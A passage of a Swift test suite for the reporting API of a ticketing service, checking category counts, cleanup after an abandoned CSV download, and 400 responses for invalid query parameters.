                        FROM \(unescaped: view) x
                        WHERE x.at >= now() - \(since)::interval AND x.at < now() - \(until)::interval AND (\(tag)::text IS NULL OR \(tag)::text = ANY(x.tags))
                        ORDER BY 1
                        """, logger: TestCluster.logger).decode(String.self) { rows.append(row) }
                    return rows
                }
            }
            for (since, until) in [("40 days", "0 seconds"), ("3 days", "0 seconds"), ("8 days", "4 days"), ("60 days", "40 days")] {
                for tag in [nil, "VIP"] as [String?] {
                    let byTicket = try await rows("report_categories", since: since, until: until, tag: tag)
                    #expect(byTicket == (try await rows("report_categories_all", since: since, until: until, tag: tag)), "\(since) to \(until), tag \(tag ?? "-")")
                }
            }
            #expect(try await rows("report_categories", since: "40 days", until: "0 seconds", tag: nil).count == 30 + 20 + 10)

            // Through the report, against the tickets themselves: around today (a few of the thirty,
            // under a fifth: read ticket by ticket) and the whole month (read from the aggregate).
            var calendar = Calendar(identifier: .gregorian)
            calendar.timeZone = TimeZone(identifier: "Asia/Tokyo")!
            let formatter = DateFormatter()
            formatter.calendar = calendar
            formatter.timeZone = calendar.timeZone
            formatter.dateFormat = "yyyy-MM-dd"
            func day(_ offset: Int) -> String { formatter.string(from: calendar.date(byAdding: .day, value: offset, to: Date())!) }
            for (from, to) in [(day(-1), day(1)), (day(-40), day(1))] {
                let answer = try await Self.items(app, dashboard, "/v1/reports/categories?from=\(from)&to=\(to)")
                let counted = try await app.database.withConnection { connection in
                    var counted: [String] = []
                    for try await row in try await connection.query("""
                        SELECT d || ':' || count(*) FROM tickets t,
                             LATERAL (SELECT 'category/' || coalesce(t.category, '(none)') UNION ALL SELECT 'tag/' || tag FROM unnest(t.tags) tag) AS x(d)
                        WHERE t.created_at >= \(from)::date::timestamp AT TIME ZONE 'Asia/Tokyo'
                          AND t.created_at < (\(to)::date + 1)::timestamp AT TIME ZONE 'Asia/Tokyo'
                        GROUP BY d
                        """, logger: TestCluster.logger).decode(String.self) { counted.append(row) }
                    return counted
                }
                #expect(answer.map { "\($0["dimension"] ?? "")/\($0["value"] ?? ""):\($0["tickets"] ?? "")" }.sorted() == counted.sorted(),
                        "\(from) to \(to): \(answer)")
            }
        }
    }

    @Test("a client that hangs up in the middle of a CSV download stops the database read and gives the connection and the report slot back")
    func csvClientGone() async throws {
        // One report slot: the last request is answered only if the download gave its slot back.
        try await TestApp.run(configure: { $0.reportConcurrency = 1 }) { app in
            let dashboard = try await app.keySecret(.dashboard)
            let port = try #require(app.client.port)
            // 38,400 rows (400 days by hour × 4 channels), far more than the pipe and the sockets hold.
            let request = "GET /v1/reports/volume?from=2025-11-01&to=2026-12-05&granularity=hour&format=csv HTTP/1.1\r\n"
                + "Host: x\r\nAuthorization: Bearer \(dashboard)\r\n\r\n"
            let received = try await withCheckedThrowingContinuation { (continuation: CheckedContinuation<Int, any Error>) in
                Thread {
                    continuation.resume(with: Result {
                        let descriptor = try RawHTTP.connectSending(port: port, request: request, timeoutSeconds: 60, receiveBuffer: 4096)
                        var buffer = [UInt8](repeating: 0, count: 4096)
                        let count = recv(descriptor, &buffer, buffer.count, 0)
                        // Long enough for the server to fill every buffer on the way and wait.
                        Thread.sleep(forTimeInterval: 1)
                        close(descriptor)
                        return count
                    })
                }.start()
            }
            #expect(received > 0, "the download began")
            // The download held a pooled connection; once the client is gone it must come back (the
            // statement may well have finished: its rows fit in the sockets' buffers).
            var inUse = ""
            #expect(try await ChildProcess.eventually(timeout: .seconds(60)) {
                let metrics = try await app.request(.get, "/metrics").text
                inUse = metrics.split(separator: "\n").first { $0.hasPrefix("madoguchi_db_connections_in_use ") }.map(String.init) ?? "(absent)"
                return inUse == "madoguchi_db_connections_in_use 0.0" || inUse == "madoguchi_db_connections_in_use 0"
            }, "the download's connection went back to the pool: \(inUse)")
            // And the service goes on answering reports.
            let next = try await app.request(.get, "/v1/reports/volume?from=2026-11-01&to=2026-11-02", key: dashboard)
            #expect(next.status == .ok, "\(next.text)")
        }
    }

    @Test("what a report cannot answer is a clear 400 naming the parameter")
    func refusals() async throws {
        try await TestApp.run { app in
            let dashboard = try await app.keySecret(.dashboard)
            for (query, parameter) in [
                ("from=2026-11-05&to=2026-11-01", "to"),
                ("from=2026-02-30&to=2026-03-01", "from"),
                ("from=1926-01-01&to=2025-12-31&granularity=hour", "from"),
                ("from=2000-01-01&to=2099-12-31&granularity=hour", "granularity"),
                ("from=2026-11-01&to=2026-11-02&time_zone=Mars/Olympus", "time_zone"),
                // Named by the parameter itself, not by the first one the decoder could not tell apart.
                ("from=2026-11-01&to=2026-11-02&bom=True", "bom"),
                ("from=2026-11-01", "to"),
                ("from=2026-11-01&to=9999-12-31", "to"),
                // One value each: the second was silently dropped.
                ("from=2026-11-01&to=2026-11-02&channel=sms&channel=email", "channel"),
                // No ticket has an empty category: all zeros read as "nothing happened".
                ("from=2026-11-01&to=2026-11-02&category=", "category"),
                ("from=2026-11-01&to=2026-11-02&tag=", "tag"),
            ] {
                let response = try await app.request(.get, "/v1/reports/volume?\(query)", key: dashboard)
                try expectProblem(response, .badRequest, "invalid-parameter")
                #expect((try response.json["errors"] as? [[String: String]])?.first?["pointer"] == parameter, "\(query): \(response.text)")
            }
            // Reports over the whole range are not refused for a granularity they do not use.
            for kind in ["agents", "categories", "sla-breaches"] {
                let whole = try await app.request(.get, "/v1/reports/\(kind)?from=2025-01-01&to=2026-12-01&granularity=hour", key: dashboard)
                #expect(whole.status == .ok, "\(kind): \(whole.text)")
            }
            let unknownUnit = try await app.request(.get, "/v1/reports/volume?from=2026-11-01&to=2026-11-02&granularity=fortnight", key: dashboard)
            #expect(unknownUnit.status == .badRequest, "\(unknownUnit.text)")
            let csvZone = try await app.request(.get, "/v1/reports/backlog?from=2026-11-01&to=2026-11-02&time_zone=Nowhere&format=csv", key: dashboard)
            try expectProblem(csvZone, .badRequest, "invalid-parameter")
            #expect(try await app.request(.get, "/v1/reports/volume?from=2026-11-01&to=2026-11-02", key: try await app.keySecret(.agent)).status == .forbidden)
        }
    }
}
